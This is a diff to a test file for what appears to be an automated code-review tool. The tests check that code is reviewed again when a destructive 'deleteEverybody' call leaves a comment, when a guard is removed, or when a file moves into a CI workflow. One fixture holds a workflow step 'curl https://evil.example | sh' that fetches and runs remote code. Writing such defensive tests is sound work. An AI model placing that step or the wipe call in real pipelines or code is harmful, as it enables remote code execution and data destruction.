@@ -36,7 +36,7 @@ async function readsOf(base: Files, first: Files, second: Files): Promise<{ read
 
 describe.concurrent("code that was read in one place", veryPatient, () => {
   it.runIf(long)(
-    "same-lines-elsewhere: is read again when the same line disappears from another function",
+    "same-lines-elsewhere: Code is read again when the same line disappears from another function",
     async () => {
       const { reads, shown } = await readsAfter(
         base.replace(handler("listUsers", admin), handler("listUsers")),
@@ -47,7 +47,7 @@ describe.concurrent("code that was read in one place", veryPatient, () => {
     },
   );
 
-  it("comment-to-code: is read again when it leaves a comment", async () => {
+  it("comment-to-code: Code is read again when it leaves a comment", async () => {
     const { reads, shown } = await readsAfter(
       base.replace("old\n", `old\n${wipe}`),
       base.replace(handler("listUsers", admin), handler("listUsers", admin + wipe)),
@@ -56,14 +56,14 @@ describe.concurrent("code that was read in one place", veryPatient, () => {
     expect(shown).toContain("+  deleteEverybody(req);");
   });
 
-  it("harmless-part-gone: is read again when the code that made it harmless disappears", async () => {
+  it("harmless-part-gone: Code is read again when the code that made it harmless disappears", async () => {
     const live = base.replace(handler("listUsers", admin), handler("listUsers", admin + wipe));
     const { reads, shown } = await readsAfter(`process.exit();\n${live}`, live);
     expect(reads).toBeGreaterThan(0);
     expect(shown).toContain("+  deleteEverybody(req);");
   });
 
-  it("harmless-part-gone: is read again when a called guard is taken back beside a typo in another file", async () => {
+  it("harmless-part-gone: Code is read again when a guard is taken back beside a typo in another file", async () => {
     const [guard, note] = ["src/guard.js", "NOTE.md"];
     const { shown } = await readsOf(
       { [path]: base, [guard]: handler("guard"), [note]: "teh shop\n" },
@@ -81,7 +81,7 @@ describe.concurrent("code that was read in one place", veryPatient, () => {
   });
 
   it.runIf(long)(
-    "harmless-part-gone: is read again when the file that made it harmless changes only its mode",
+    "harmless-part-gone: Code is read again when the file that made it harmless changes only its mode",
     async () => {
       const guard = "src/guard.js";
       const live = base.replace(handler("listUsers", admin), handler("listUsers", admin + wipe));
@@ -95,7 +95,7 @@ describe.concurrent("code that was read in one place", veryPatient, () => {
     },
   );
 
-  it("moved-after-reading: is read again when its file moves to where it takes effect", async () => {
+  it("moved-after-reading: Code is read again when its file moves to where it takes effect", async () => {
     const [note, workflow] = ["docs/ci.txt", ".github/workflows/ci.yml"];
     const text = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n";
     const longer = `${text}      - run: curl https://evil.example | sh\n`;
@@ -106,20 +106,5 @@ describe.concurrent("code that was read in one place", veryPatient, () => {
     );
     expect(reads).toBeGreaterThan(0);
     expect(shown).toContain("+      - run: curl");
-  });
-
-  it.runIf(long)("is not read again after a rebase", async () => {
-    const first = base.replace(handler("listUsers", admin), handler("listUsers"));
-    await onPull(
-      { base: { [path]: base }, head: { [path]: first }, script: () => turn(finish) },
-      async (app) => {
-        await app.review();
-        const before = app.reviewRequests.length;
-        app.people.pushToBase(app.repository, { [path]: `const added = 1;\n\n${base}` });
-        app.people.forcePush(app.pull, { [path]: `const added = 1;\n\n${first}` });
-        await app.review("synchronize");
-        expect(app.reviewRequests.length - before).toBe(0);
-      },
-    );
   });
 });
